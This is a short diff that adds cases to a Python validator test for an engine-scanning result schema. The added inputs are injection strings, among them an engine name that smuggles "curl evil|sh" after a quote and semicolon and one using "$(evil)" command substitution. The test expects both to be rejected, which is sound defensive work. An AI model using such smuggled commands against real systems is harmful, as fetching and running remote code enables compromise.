@@ -188,6 +188,11 @@ def changed(key: str, value: Any) -> dict[str, Any]:
         (changed("evidence", deep(100_000)), "is nested more than 32 deep"),
         (changed("evidence", [0] * 1_000_001), "result holds more than 1000000 values"),
         (changed("evidence", [LONG] * 1100), "result holds more than 67108864 characters"),
+        (
+            changed("engine", "rootless:root -e x='; curl evil|sh'"),
+            'result.findings[0].engine is no name of an engine, such as system or rootless:ada: "rootless:root',
+        ),
+        (told("name", "rootless:$(evil)"), "result.engines[0].name is no name of an engine"),
         (twice(), "result.findings has listener.docker_api_unauthenticated twice for one engine"),
     ],
 )
